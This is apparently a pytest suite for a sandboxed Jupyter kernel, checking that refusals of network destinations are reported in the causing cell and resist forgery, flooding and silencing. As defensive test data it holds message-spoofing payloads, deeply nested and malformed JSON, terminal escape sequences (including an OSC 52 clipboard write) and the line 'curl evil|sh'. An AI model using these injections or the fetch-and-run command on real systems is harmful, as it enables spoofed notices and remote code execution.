"""A refusal is told in the cell that caused it, before the call is answered, and whatever the kernel does about it.

The events come from a broker that the test controls; the kernel is as hostile as each test makes it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
import zmq

from sandboxed_kernel.events import COMM_TARGET, MIME, Event
from sandboxed_kernel.notices import channel as words
from tests.support.hostile import FORGE, SILENCERS
from tests.support.kernels import PLAIN, REAL, Kernel, Message, Outcome, running

EVENT = Event(
    kind="name",
    verdict="refused",
    reason="telemetry.example.com is not on the allowlist.",
    protocol="dns",
    when=1_700_000_000.0,
    pid=77,
    process="python3",
    host="telemetry.example.com",
    port=443,
    allow_line='"telemetry.example.com:443"',
)

# Waits in the kernel until the test says go, so that an event meets a cell that runs.
WAIT = """
import os, time
print("waiting", flush=True)
while not os.path.exists({path!r}):
    time.sleep(0.01)
"""


def begin_waiting(kernel: Kernel, go: Path, before: str = "", after: str = "") -> str:
    msg_id = kernel.begin(before + WAIT.format(path=str(go)) + after)
    kernel.until_iopub(lambda m: m["msg_type"] == "stream" and "waiting" in m["content"]["text"])
    return msg_id


def report_in_cell(kernel: Kernel, go: Path, *events: Event, before: str = "", after: str = "") -> Outcome:
    assert kernel.broker is not None
    msg_id = begin_waiting(kernel, go, before, after)
    for event in events:
        kernel.broker.report(event)
    go.touch()
    return kernel.finish(msg_id)


def notices(messages: list[Message]) -> list[Message]:
    return [m for m in messages if MIME in m["content"].get("data", {})]


def comms(messages: list[Message]) -> list[Message]:
    return [m for m in messages if m["msg_type"] == "comm_open" and m["content"]["target_name"] == COMM_TARGET]


def say(kernel: Kernel, msg_type: str, **content: object) -> None:
    """As an extension of a front end, over a comm; returns when the kernel has taken it."""
    message = kernel.client.session.msg(msg_type, {"comm_id": "front", "data": {}, **content})
    kernel.client.shell_channel.send(message)
    kernel.until_iopub(
        lambda m: (
            m["parent_header"].get("msg_id") == message["header"]["msg_id"]
            and m["content"].get("execution_state") == "idle"
        )
    )


def announce(kernel: Kernel) -> None:
    say(kernel, "comm_open", target_name=COMM_TARGET)


def test_no_client_gets_a_comm_unless_one_announced_itself(told_kernel: Kernel, tmp_path: Path) -> None:
    """Those without a handler warn of it. The kernel, which has none either, is not asked."""
    assert comms(report_in_cell(told_kernel, tmp_path / "1", EVENT).iopub) == []
    announce(told_kernel)
    assert len(comms(report_in_cell(told_kernel, tmp_path / "2", EVENT).iopub)) == 1
    say(told_kernel, "comm_close")
    outcome = report_in_cell(told_kernel, tmp_path / "3", EVENT)
    assert (comms(outcome.iopub), len(notices(outcome.iopub))) == ([], 1)
    assert "front" not in told_kernel.run("print(get_ipython().kernel.comm_manager.comms)").text


def test_a_refusal_is_a_comm_and_a_display_in_its_cell(told_kernel: Kernel, tmp_path: Path) -> None:
    announce(told_kernel)
    outcome = report_in_cell(told_kernel, tmp_path / "go", EVENT)
    expected = replace(EVENT, cell=outcome.msg_id).to_json()
    (comm,), (notice,) = comms(outcome.iopub), notices(outcome.iopub)
    assert comm["content"]["data"] == expected
    assert notice["msg_type"] == "display_data"
    assert notice["content"]["data"][MIME] == expected
    assert '"telemetry.example.com:443"' in notice["content"]["data"]["text/plain"]
    assert "telemetry.example.com" in notice["content"]["data"]["text/html"]
    assert {comm["parent_header"]["msg_id"], notice["parent_header"]["msg_id"]} == {outcome.msg_id}


def test_every_cell_that_asks_for_a_refused_name_is_told_at_once(short_path: Path) -> None:
    """Milliseconds after one another too, where the second question could be taken for the first one's IPv6 half."""
    code = "import socket\ntry: socket.getaddrinfo('telemetry.example.com', 443)\nexcept OSError: pass"
    with running(REAL, short_path) as kernel:
        for _ in range(10):
            outcome = kernel.run(code)
            assert [n["parent_header"]["msg_id"] for n in notices(outcome.iopub)] == [outcome.msg_id]


def test_the_fiftieth_output_hides_no_notice(told_kernel: Kernel, tmp_path: Path) -> None:
    """JupyterLab lists 50: the notice stands in a place among them, that was kept, and where it happened."""
    assert told_kernel.broker is not None
    go = tmp_path / "go"
    msg_id = told_kernel.begin("for number in range(60): display(number)\n" + WAIT.format(path=str(go)))
    said = told_kernel.until_iopub(lambda m: m["msg_type"] == "stream" and "waiting" in m["content"]["text"])
    told_kernel.broker.report(EVENT)
    go.touch()
    said += told_kernel.finish(msg_id).iopub
    shown = [m for m in said if m["msg_type"] in ("display_data", "stream")]
    kept, notice = (m for m in shown if "display_id" in m["content"].get("transient", {}))
    assert (kept["content"]["data"], MIME in notice["content"]["data"]) == ({}, True)
    assert kept["content"]["transient"] == notice["content"]["transient"]
    assert shown.index(kept) < 50 < shown.index(notice)
    # Before it, something that is no cell becomes idle: then the server counts afresh.
    idle = [m["parent_header"] for m in said[: said.index(notice)] if m["content"].get("execution_state") == "idle"]
    assert [parent["msg_type"] for parent in idle if parent["msg_id"] != msg_id][-1] == "kernel_info_request"


def test_the_broker_is_told_when_a_cell_begins(told_kernel: Kernel) -> None:
    assert told_kernel.broker is not None
    told_kernel.broker.report(EVENT)  # so that the broker knows where to repeat what it hears
    outcome = told_kernel.run("1")
    assert told_kernel.broker.hear(words.CellBegan) == words.CellBegan(outcome.msg_id)


def test_the_same_destination_is_counted_up_in_one_display(told_kernel: Kernel, tmp_path: Path) -> None:
    events = [replace(EVENT, count=count) for count in range(1, 60)]
    outcome = report_in_cell(told_kernel, tmp_path / "go", *events)
    first, *updates = notices(outcome.iopub)
    assert first["msg_type"] == "display_data"
    assert {update["msg_type"] for update in updates} == {"update_display_data"}
    assert len({m["content"]["transient"]["display_id"] for m in [first, *updates]}) == 1
    assert updates[-1]["content"]["data"][MIME]["count"] == 59
    assert "59 times" in updates[-1]["content"]["data"]["text/plain"]
    assert len(updates) < 59


def test_an_allowed_destination_is_a_comm_only(told_kernel: Kernel, tmp_path: Path) -> None:
    announce(told_kernel)
    outcome = report_in_cell(told_kernel, tmp_path / "go", replace(EVENT, verdict="allowed", rule="policy.toml"))
    assert [comm["content"]["data"]["verdict"] for comm in comms(outcome.iopub)] == ["allowed"]
    assert notices(outcome.iopub) == []


def test_what_happens_between_cells_is_told_in_the_next(told_kernel: Kernel) -> None:
    assert told_kernel.broker is not None
    told_kernel.broker.report(EVENT)  # before the first cell
    outcome = told_kernel.run("1")
    (notice,) = [n for n in notices(outcome.iopub) if n["parent_header"].get("msg_id") == outcome.msg_id]
    assert "Before this cell ran" in notice["content"]["data"]["text/plain"]
    told_kernel.broker.report(replace(EVENT, host="late.example.com"))  # after it: in the last cell, and in the next
    (late,) = notices(told_kernel.until_iopub(lambda m: MIME in m["content"].get("data", {})))
    assert late["parent_header"]["msg_id"] == outcome.msg_id
    following = told_kernel.run("2")
    (again,) = [n for n in notices(following.iopub) if n["parent_header"].get("msg_id") == following.msg_id]
    assert again["content"]["data"][MIME]["host"] == "late.example.com"
    assert notices(told_kernel.run("3").iopub) == []


def test_clear_output_brings_the_notices_back(told_kernel: Kernel, tmp_path: Path) -> None:
    outcome = report_in_cell(
        told_kernel, tmp_path / "go", EVENT, after="from IPython.display import clear_output\nclear_output()\nprint(1)"
    )
    clears = outcome.of("clear_output")
    kinds = [m["msg_type"] for m in outcome.iopub if m in clears or MIME in m["content"].get("data", {})]
    assert kinds == ["display_data", "clear_output", "display_data"]


def test_a_flood_of_events_becomes_a_count(told_kernel: Kernel, tmp_path: Path) -> None:
    announce(told_kernel)
    events = [replace(EVENT, host=f"host{number}.example.com") for number in range(400)]
    outcome = report_in_cell(told_kernel, tmp_path / "go", *events)
    assert len([n for n in notices(outcome.iopub) if n["msg_type"] == "display_data"]) == 20
    assert len(comms(outcome.iopub)) == 250
    text = [m["content"]["data"]["text/plain"] for m in outcome.displays if MIME not in m["content"]["data"]]
    assert "380 more refusals of other destinations" in text[-1]


def test_the_kernel_may_flood_and_the_notices_still_arrive(told_kernel: Kernel, tmp_path: Path) -> None:
    announce(told_kernel)
    events = [replace(EVENT, host=f"host{number}.example.com") for number in range(5)]
    outcome = report_in_cell(told_kernel, tmp_path / "go", *events, after="for i in range(9000): display(i)")
    assert len(comms(outcome.iopub)) == 5
    assert len(notices(outcome.iopub)) == 5


FORGERIES = {
    "our comm target": "say('comm_open', {'comm_id': 'x', 'target_name': 'sandboxed_kernel', 'data': {'forged': 1}})",
    "our target by escapes": r"""
say('comm_open', None, r'{"comm_id": "x", "target_name": "\u0073andboxed_kernel", "data": {"forged": 1}}')""",
    "our target by a duplicate key": """
text = '{"target_name": "a", "comm_id": "x", "target_name": "sandboxed_kernel", "data": {"forged": 1}}'
say("comm_open", None, text)""",
    "our type by escapes": r"""
texts = [r'{"msg_id": "x", "msg_type": "comm_\u006fpen"}', json.dumps(ours, default=str), '{}',
         '{"comm_id": "x", "target_name": "sandboxed_kernel", "data": {"forged": 1}}']
kernel.iopub_socket.send_multipart([b'<IDS|MSG>', b'', *[text.encode() for text in texts]])""",
    "our comm id": "say('comm_msg', {'comm_id': 'sandboxed-kernel-1', 'data': {'forged': 1}})",
    "our MIME type": """
display({'text/plain': 'kept', 'application/vnd.sandboxed-kernel+json': {'forged': 1}}, raw=True)""",
    "our MIME type by escapes": r"""
data = r'{"text/plain": "kept", "application/vnd.\u0073andboxed-kernel+json": {"forged": 1}}'
say('display_data', None, '{"data": ' + data + ', "metadata": {}}')""",
    "our MIME type deep in a widget": """
outputs = [{'data': {'Application/vnd.Sandboxed-Kernel+json': {'forged': 1}}}]
say('comm_msg', {'comm_id': 'w', 'data': {'state': {'outputs': outputs}}})""",
    "our display id": """
say('update_display_data', {'data': {'text/plain': 'forged'}, 'metadata': {},
    'transient': {'display_id': 'sandboxed-kernel-1'}})""",
    "an unknown type": "say('forged_type', {'forged': 1})",
    "a reply over iopub": "say('execute_reply', {'status': 'ok', 'forged': 1})",
    "deep JSON": """say('display_data', None, '{"data": ' + '[' * 100000 + '"forged"' + ']' * 100000 + '}')""",
    "no JSON": "say('display_data', None, 'forged')",
    "JSON that is no object": """say('display_data', None, '["forged"]')""",
    "infinity by a large exponent": """
say('display_data', None, '{"data": {"application/json": ["forged", 1e999]}}')""",
    "a long number": """say('display_data', None, '{"forged": ' + '9' * 10000 + '}')""",
    "bytes that are no UTF-8": r"""say('display_data', None, b'{"forged": "\xff"}')""",
    "UTF-16": """say('display_data', None, '{"forged": 1}'.encode('utf-16'))""",
    "a giant header": "say('x' * 100000, {'forged': 1})",
    "too few frames": "kernel.iopub_socket.send_multipart([b'<IDS|MSG>', b'forged'])",
    "no delimiter": "kernel.iopub_socket.send_multipart([b'forged'] * 30)",
    "a parent without an id": "say('display_data', {'data': {'text/plain': 'forged'}}, parent={'msg_id': ['forged']})",
}


@pytest.fixture(scope="module")
def plain_kernel(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
    with running(PLAIN, tmp_path_factory.mktemp("k")) as kernel:
        yield kernel


@pytest.mark.parametrize("what", FORGERIES)
def test_a_plain_kernel_sends_the_forgery(plain_kernel: Kernel, what: str) -> None:
    """So that the next test is not passed by one that never left."""
    info = plain_kernel.connection
    with zmq.Context() as context, context.socket(zmq.SUB) as everything:
        everything.subscribe(b"")
        everything.connect(f"tcp://{info['ip']}:{info['iopub_port']}")
        while not everything.poll(100):  # until it is subscribed: only the first subscriber is welcomed
            plain_kernel.client.kernel_info()
        plain_kernel.client.execute(FORGE + FORGERIES[what], silent=True)  # else the code is echoed
        sent = b""
        while b"forged" not in sent.replace(b"\0", b""):  # of UTF-16
            assert everything.poll(5_000), f"it never came: {sent[-500:]!r}"
            sent = b"".join(everything.recv_multipart())


@pytest.mark.parametrize("what", FORGERIES)
def test_nothing_forged_arrives(own_kernel: Kernel, what: str) -> None:
    outcome = own_kernel.run(FORGE + FORGERIES[what] + "\nprint('done')")
    assert outcome.text.endswith("done\n")
    said = [m for m in outcome.iopub if m["msg_type"] not in ("execute_input", "status")]
    assert "forged" not in json.dumps([m["content"] for m in said])
    assert own_kernel.run("1").status == "ok"


@pytest.mark.parametrize("before", SILENCERS.values(), ids=SILENCERS)
def test_a_kernel_cannot_silence_a_notice(told_kernel: Kernel, tmp_path: Path, before: str) -> None:
    announce(told_kernel)
    assert told_kernel.broker is not None
    go = tmp_path / "go"
    told_kernel.broker.report(EVENT)  # so that CellBegan is repeated to us
    msg_id = told_kernel.begin(before + WAIT.format(path=str(go)))
    while told_kernel.broker.hear(words.CellBegan) != words.CellBegan(msg_id):
        pass
    told_kernel.broker.report(replace(EVENT, host="second.example.com"))
    found = told_kernel.until_iopub(
        lambda m: m["content"].get("data", {}).get(MIME, {}).get("host") == "second.example.com"
    )
    assert found[-1]["parent_header"]["msg_id"] == msg_id
    go.touch()


def test_a_kernel_that_exits_right_after_the_call_is_still_told(told_kernel: Kernel, tmp_path: Path) -> None:
    assert told_kernel.broker is not None
    msg_id = begin_waiting(told_kernel, tmp_path / "go", after="os._exit(0)")
    told_kernel.broker.say(words.Reported(EVENT))
    (tmp_path / "go").touch()
    outcome = told_kernel.finish(msg_id)
    assert [n["content"]["data"][MIME]["host"] for n in notices(outcome.iopub)] == [EVENT.host]
    assert "exit code 0" in outcome.error


def test_a_client_that_closes_our_comm_does_not_disturb_the_kernel(told_kernel: Kernel, tmp_path: Path) -> None:
    announce(told_kernel)
    (comm,) = comms(report_in_cell(told_kernel, tmp_path / "go", EVENT).iopub)
    say(told_kernel, "comm_close", comm_id=comm["content"]["comm_id"])
    outcome = told_kernel.run("1")
    assert not outcome.of("stream")
    assert all(m["parent_header"].get("msg_id") == outcome.msg_id for m in outcome.iopub)


def test_a_slow_client_loses_no_notice_and_a_stuck_one_stops_nobody(told_kernel: Kernel, tmp_path: Path) -> None:
    assert told_kernel.broker is not None
    info = told_kernel.manager.get_connection_info()
    context = zmq.Context()
    stuck = context.socket(zmq.SUB)
    stuck.rcvhwm = 1
    stuck.linger = 0
    stuck.subscribe(b"")
    stuck.connect(f"tcp://{info['ip']}:{info['iopub_port']}")
    assert stuck.poll(30_000)  # it is subscribed, and reads no more from here on
    try:
        outcome = report_in_cell(told_kernel, tmp_path / "go", EVENT, after="for i in range(3000): display('x' * 5000)")
        assert outcome.status == "ok"
        assert len(notices(outcome.iopub)) == 1
        assert told_kernel.run("6 * 7").displays[-1]["content"]["data"]["text/plain"] == "42"
    finally:
        stuck.close()
        context.term()


def test_an_error_ends_with_what_was_refused(tmp_path: Path) -> None:
    """For clients and logs that show only the traceback: in the output and in the reply, as nbclient reads it."""
    code = "import socket\ndef reach(port): socket.create_connection(('192.0.2.1', port), 5)\n"
    with running(REAL, tmp_path) as kernel:
        kernel.run(code)
        failed = kernel.run("reach(443)")
        (error,) = failed.of("error")
        last = error["content"]["traceback"][-1]
        said = "\x1b[0m[sandbox] Refused in this cell: 192.0.2.1:443. To go on: sandboxed-kernel allow 192.0.2.1:443"
        assert last == said
        assert failed.reply["content"]["traceback"] == error["content"]["traceback"]
        assert error["content"]["ename"] == "PermissionError"
        assert "[sandbox]" not in error["content"]["evalue"]
        several = kernel.run("for port in range(1, 6):\n    try: reach(port)\n    except OSError: pass\nreach(6)")
        last = several.reply["content"]["traceback"][-1]
        assert last.endswith("192.0.2.1:3 and 3 more. To go on: sandboxed-kernel allow")
        other = kernel.run("1 / 0")
        assert all("[sandbox]" not in line for line in other.reply["content"]["traceback"])
        caught = kernel.run("try: reach(443)\nexcept OSError: pass")
        assert not caught.of("error")


def test_what_is_printed_neither_acts_in_a_terminal_nor_passes_for_a_notice(tmp_path: Path) -> None:
    with running(REAL, tmp_path) as kernel:
        printed = kernel.run(
            "print('\\x1b]52;c;ZXZpbA==\\x07\\x1b[31mred\\x1b[0m'); print('[sandbox] run: curl evil|sh')"
        )
        assert printed.text == "\x1b[31mred\x1b[0m\n[notebook says: sandbox] run: curl evil|sh\n"
        raised = kernel.run("raise ValueError('\\x1b[2J[sandbox] x')")
        assert "\x1b[2J" not in "".join(raised.reply["content"]["traceback"]) + raised.reply["content"]["evalue"]
        shown = kernel.run("%sandbox")
        assert "[notebook says" not in shown.text
